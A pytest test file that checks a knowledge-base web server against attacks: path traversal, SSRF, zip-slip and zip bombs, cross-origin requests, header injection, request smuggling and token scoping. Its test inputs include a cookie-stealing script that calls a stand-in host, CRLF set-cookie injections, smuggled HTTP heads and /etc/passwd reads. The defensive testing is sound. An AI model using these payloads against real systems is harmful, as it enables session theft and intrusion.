"""The attack list: what must not come in is refused with the status that says why, and changes nothing."""

from __future__ import annotations

import io
import json
import socket
import zipfile
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from browser import served
from kb.app.hosting.tokens import Tokens
from kb.app.hosting.uploads import file_name
from kb.ingest.errors import InputError
from needs import needs

httpx = pytest.importorskip("httpx", reason="httpx is not installed")
needs("gradio", extra="ui")

SCRIPT = "<script>fetch('http://evil.example/?' + document.cookie)</script>"


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("attacks") / "home"


@pytest.fixture(scope="module")
def address(home: Path) -> Iterator[str]:
    """A server on loopback without tokens, with small limits."""
    with served("serve", home, "--max-upload-mb", "3") as address:
        yield address


@pytest.fixture(scope="module")
def http(address: str) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=address, timeout=60) as client:
        yield client


def files(count: int) -> dict[str, object]:
    return {"files": [("files", (f"{number}.md", b"x")) for number in range(count)]}


@pytest.mark.parametrize("name", ["../evil.md", "..\\evil.md", "/etc/passwd", ".hidden", "a\nb.md", "CON:x", "x" * 300])
def test_names_of_uploads_cannot_leave_the_folder(name: str) -> None:
    """A name that is a path, hidden, or no printable text is refused before anything is written."""
    with pytest.raises(InputError):
        file_name(name)


@pytest.mark.parametrize(
    ("method", "path", "arguments", "status"),
    [
        # names that are paths
        ("post", "/api/v1/documents", {"files": [("files", ("../../evil.md", b"x"))]}, 400),
        ("post", "/api/v1/documents", {"files": [("files", ("..\\..\\evil.md", b"x"))]}, 400),
        ("post", "/api/v1/documents", {"files": [("files", ("/etc/cron.d/evil", b"x"))]}, 400),
        ("post", "/api/v1/ask", {"json": {"question": "x", "base": "../etc"}}, 404),
        ("post", "/api/v1/ask", {"json": {"question": "x", "base": "missing"}}, 404),
        ("post", "/api/v1/bases", {"json": {"name": "../up"}}, 400),
        ("post", "/api/v1/bases", {"json": {"name": "models"}}, 400),
        ("post", "/api/v1/bases", {"json": {"name": "a\r\nset-cookie: b=c"}}, 400),
        ("delete", "/api/v1/bases/..%2f..", {}, 404),
        ("delete", "/api/v1/bases/%2e%2e", {}, 404),
        ("get", "/api/v1/ingest/..%2f..%2ftokens.json", {}, 404),
        ("delete", "/api/v1/documents?source=/etc/passwd", {}, 400),
        ("get", "/gradio_api/file=/etc/passwd", {}, 403),
        # too large, too many, one over the other
        ("post", "/api/v1/documents", {"files": [("files", ("a.md", b"x")), ("files", ("a.md", b"y"))]}, 400),
        ("post", "/api/v1/documents", {"files": [("files", ("a.md", b"x" * 4_000_000))]}, 413),
        ("post", "/api/v1/documents", files(201), 422),
        ("post", "/api/v1/documents", files(10_000), 400),
        ("post", "/api/v1/ask", {"content": b"x" * 3_000_000}, 413),
        ("post", "/api/v1/ask", {"json": {"question": "x" * 9000}}, 422),
        ("post", "/api/v1/ask", {"json": {"question": " "}}, 400),
        ("post", "/api/v1/ask", {"json": {"question": "x", "max_tokens": 10**9}}, 422),
        # the server is not made to fetch anything
        ("post", "/api/v1/ingest", {"json": {"paths": ["http://127.0.0.1:1/secret"], "wait": True}}, 400),
        ("post", "/api/v1/ingest", {"json": {"paths": ["../../etc"], "wait": True}}, 400),
        ("post", "/api/v1/ingest", {"json": {"paths": ["~"], "wait": True}}, 400),
        ("post", "/api/v1/ask", {"json": {"question": "x", "llm": "openai:http://169.254.169.254#x"}}, 200),
        # other web sites
        ("post", "/api/v1/ask", {"json": {"question": "x"}, "headers": {"origin": "http://evil.example"}}, 403),
        ("post", "/api/v1/ask", {"json": {"question": "x"}, "headers": {"origin": "null"}}, 403),
        ("post", "/api/v1/ask", {"json": {"question": "x"}, "headers": {"origin": "http://["}}, 400),
        ("get", "/healthz", {"headers": {"host": "["}}, 400),
        ("get", "/api/v1/documents", {"headers": {"host": "evil.example"}}, 400),
        ("get", "/", {"headers": {"host": "evil.example:7950"}}, 400),
        ("get", "/docs", {"headers": {"host": "127.0.0.1.evil.example"}}, 400),
        ("options", "/api/v1/ask", {"headers": {"origin": "http://evil.example"}}, 403),
        ("get", "/api/v1/documents", {"headers": {"sec-fetch-site": "cross-site", "sec-fetch-mode": "no-cors"}}, 403),
    ],
)
def test_attacks_are_refused(http: httpx.Client, method: str, path: str, arguments: dict, status: int) -> None:
    """Each is refused with the status that says why, as JSON, and without a word of the server's insides."""
    answer = http.request(method, path, **arguments)
    assert answer.status_code == status, answer.text
    assert answer.headers["content-type"].startswith("application/json")
    assert "Traceback" not in answer.text
    assert "access-control-allow-origin" not in answer.headers
    assert "set-cookie" not in answer.headers


def test_a_url_is_no_path_and_is_not_fetched(http: httpx.Client) -> None:
    """Whoever names a URL to ingest is told that it is no path, and nobody is called."""
    with socket.create_server(("127.0.0.1", 0)) as listening:
        listening.settimeout(1)
        url = f"http://127.0.0.1:{listening.getsockname()[1]}/secret"
        refused = http.post("/api/v1/ingest", json={"paths": [url], "wait": True})
        assert (refused.status_code, "not an absolute path" in refused.text) == (400, True)
        page = f'<html><body><img src="{url}"><iframe src="{url}"></iframe>{SCRIPT}<p>Cats sleep.</p></body></html>'
        for name in ("fetch.html", "fetch.svg", "fetch.md"):
            upload = {"files": [("files", (name, page.encode()))]}
            assert http.post("/api/v1/documents", data={"wait": "true"}, **upload).json()["state"] == "done"
        with pytest.raises(TimeoutError):
            listening.accept()


def test_a_body_without_a_length_is_cut_off(http: httpx.Client) -> None:
    """A body sent in pieces cannot get around the limit."""
    answer = http.post("/api/v1/ask", content=(b"x" * 100_000 for _ in range(30)))
    assert answer.status_code == 413


def test_a_zip_that_slips_out_writes_nothing(http: httpx.Client, home: Path) -> None:
    """Members are read where they are: their names lead nowhere on disk, and a bomb is a failure of its own."""
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("../../../slipped.md", "The slipped file speaks.")
        archive.writestr("/tmp/slipped.md", "So does this one.")  # noqa: S108
        archive.writestr("bomb.txt", b"0" * 300_000_000)
    before = {path for path in home.parent.rglob("*") if "uploads" not in path.parts}
    upload = {"files": [("files", ("slip.zip", packed.getvalue()))]}
    job = http.post("/api/v1/documents", data={"wait": "true"}, **upload).json()
    assert job["state"] == "done"
    assert any(
        "bomb.txt" in failure["source"] or "slip.zip" in failure["source"] for failure in job["report"]["failed"]
    )
    assert not list(home.parent.rglob("slipped.md"))
    assert not Path("/tmp/slipped.md").exists()  # noqa: S108
    new = {path for path in home.parent.rglob("*") if "uploads" not in path.parts} - before
    assert all(path.name.startswith(("catalog", "jobs", "lock", "tfidf", "chroma")) for path in new), new


def test_scripts_in_documents_are_text(http: httpx.Client) -> None:
    """HTML and SVG with scripts come back as JSON only, the page does not serve them, and their scripts are not in the text."""
    html = f"<html><body><h1>Zebra</h1><p onclick='x()'>The zebra has stripes.</p>{SCRIPT}</body></html>"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">{SCRIPT}<text>The zebra is drawn.</text></svg>'
    upload = [("files", ("zebra.html", html.encode())), ("files", ("zebra.svg", svg.encode()))]
    job = http.post("/api/v1/documents", data={"wait": "true"}, files=upload).json()
    answer = http.post(
        "/api/v1/search", json={"question": "What does the zebra have?", "where": {"source": ["zebra*"]}}
    )
    assert answer.headers["content-type"] == "application/json"
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert "stripes" in answer.text
    assert "<script" not in answer.text
    assert "onclick" not in answer.text
    for path in job["paths"]:
        assert http.get(f"/gradio_api/file={path}").status_code in (403, 404)


@pytest.mark.parametrize(
    "head",
    [
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\rb\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX: a\x00b\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nHost: evil.example\r\n\r\n",
        "POST /api/v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        "POST /api/v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: -1\r\n\r\n",
        "POST /api/v1/ask HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nx",
        f"GET /healthz HTTP/1.1\r\nHost: 127.0.0.1\r\nX: {'a' * 200_000}\r\n\r\n",
        "GET /healthz HTTP/1.1\r\nHost: user@evil.example\r\n\r\n",
        "GET http://evil.example/healthz HTTP/1.1\r\nHost: evil.example\r\n\r\n",
    ],
)
def test_malformed_heads_are_refused(address: str, head: str) -> None:
    """Injected and doubled headers, smuggled bodies and foreign hosts get a 400 (or 422: no question), never a 200 or a 500."""
    place = urlsplit(address)
    with socket.create_connection((place.hostname, place.port), timeout=20) as connection:
        connection.sendall(head.encode("latin-1"))
        status = connection.recv(100).split(b" ")[1]
    assert status in (b"400", b"422", b"431")


def test_what_is_sent_cannot_become_a_header(http: httpx.Client) -> None:
    """Line ends in names and addresses come back as text at most."""
    evil = "x\r\nset-cookie: kb_token=evil\r\n\r\n<script>"
    name = "a\r\nset-cookie: b=c.md"
    for answer in (
        http.get("/api/v1/status", params={"base": evil}),
        http.get(f"/api/v1/ingest/{'%0d%0aset-cookie:%20b=c'}"),
        http.get("/v1/models/%0d%0aset-cookie:%20b=c"),
        http.post("/api/v1/documents", files=[("files", (name, b"x"))]),
        http.get("/%0d%0aset-cookie:%20b=c"),
    ):
        assert 400 <= answer.status_code < 500, answer.url
        assert "set-cookie" not in answer.headers


def test_tokens_open_their_own_base_only(tmp_path: Path) -> None:
    """A token for one base can neither read, write, list nor delete another, and cannot tell whether there is one."""
    home = tmp_path / "home"
    tokens = Tokens(home)
    everywhere = tokens.add("admin")
    mine = tokens.add("admin", bases=["mine"])
    with served("serve", home, "--rate", "0") as address:

        def call(method: str, path: str, token: str, **more: object) -> httpx.Response:
            headers = {"authorization": f"Bearer {token}"}
            return httpx.request(method, f"{address}{path}", headers=headers, timeout=60, **more)

        for base, text in (("mine", "The key is under the mat."), ("other", "The secret is swordfish.")):
            assert call("post", "/api/v1/bases", everywhere, json={"name": base}).status_code == 201
            upload = {"files": [("files", ("note.md", text.encode()))], "data": {"base": base, "wait": "true"}}
            assert call("post", "/api/v1/documents", everywhere, **upload).status_code == 200
        other = next(job for job in call("get", "/api/v1/ingest", everywhere).json()["jobs"] if job["base"] == "other")
        place = other["report"]["added"][0]
        asked = {"question": "What is the secret?"}
        refused = [
            call("post", "/api/v1/ask", mine, json=asked | {"base": "other"}),
            call("post", "/api/v1/ask", mine, json=asked | {"base": "nowhere"}),
            call("post", "/api/v1/search", mine, json=asked | {"base": "other"}),
            call("post", "/api/v1/search", mine, json=asked | {"bases": ["mine", "other"]}),
            call("post", "/api/v1/ask", mine, json=asked | {"bases": ["mine", "other"]}),
            call("post", "/api/v1/feedback", mine, json={"id": 1, "verdict": "up", "base": "other"}),
            call("post", "/api/v1/eval", mine, json={"base": "other"}),
            call("get", "/api/v1/documents?base=other", mine),
            call("get", "/api/v1/status?base=other", mine),
            call("post", "/api/v1/documents", mine, data={"base": "other"}, files=[("files", ("a.md", b"x"))]),
            call("delete", f"/api/v1/documents?base=other&source={place}", mine),
            call("delete", "/api/v1/bases/other", mine),
            call("post", "/api/v1/bases", mine, json={"name": "third"}),
            call("get", f"/api/v1/ingest/{other['id']}", mine),
            call("get", f"/api/v1/ingest/{other['id']}/events", mine),
            call("delete", f"/api/v1/ingest/{other['id']}", mine),
        ]
        assert [answer.status_code for answer in refused] == [403] * len(refused)
        assert "swordfish" not in "".join(answer.text for answer in refused)
        assert call("get", "/v1/models/other", mine).status_code == 404
        assert call("get", "/api/v1/bases", mine).json() == {"bases": ["mine"], "default": "mine"}
        assert [model["id"] for model in call("get", "/v1/models", mine).json()["data"]] == ["mine"]
        assert {job["base"] for job in call("get", "/api/v1/ingest", mine).json()["jobs"]} == {"mine"}
        chat = {"messages": [{"role": "user", "content": "What is the secret?"}]}
        for model in ("other", "gpt"):  # what may not be asked looks like what is not there
            assert call("post", "/v1/chat/completions", mine, json=chat | {"model": model}).status_code == 404
            assert call("post", "/v1/embeddings", mine, json={"model": model, "input": "x"}).status_code == 404
        for said in (
            call("post", "/v1/chat/completions", mine, json=chat),
            call("post", "/api/v1/ask", mine, json=asked),
        ):
            assert said.status_code == 200
            assert "swordfish" not in said.text
        assert "mat" in call("post", "/api/v1/ask", mine, json={"question": "Where is the key?"}).text
        with httpx.Client(base_url=address) as page:
            assert page.post("/login", data={"token": mine}).status_code == 401
            assert page.get("/", headers={"authorization": f"Bearer {mine}"}).status_code == 303
        kept = json.loads((home / "tokens.json").read_text())
        assert [row["bases"] for row in kept] == [[], ["mine"]]


def test_wrong_tokens_are_refused_and_busy_ones_slowed(tmp_path: Path) -> None:
    """Whatever is no token gets 401; a token that asks too often 429 and when to come back, while others go on."""
    home = tmp_path / "home"
    busy, calm = (Tokens(home).add("read") for _ in range(2))
    with served("serve", home, "--rate", "5") as address:

        def ask(**headers: str) -> httpx.Response:
            return httpx.get(f"{address}/api/v1/bases", headers=headers, timeout=60)

        for wrong in (
            "",
            "Bearer",
            "Bearer  kb-wrong",
            f"Basic {busy}",
            f"Bearer {busy}x",
            f"bearer {busy[:-1]}",
        ):
            assert ask(authorization=wrong).status_code == 401, wrong
        assert ask(cookie="kb_token=wrong").status_code == 401
        assert ask(authorization=f"Bearer {busy[:10]}").headers["www-authenticate"] == "Bearer"
        statuses = [ask(authorization=f"Bearer {busy}").status_code for _ in range(7)]
        assert statuses[:5] == [200] * 5
        assert statuses[-1] == 429
        assert int(ask(authorization=f"Bearer {busy}").headers["retry-after"]) > 0
        assert ask(authorization=f"Bearer {calm}").status_code == 200
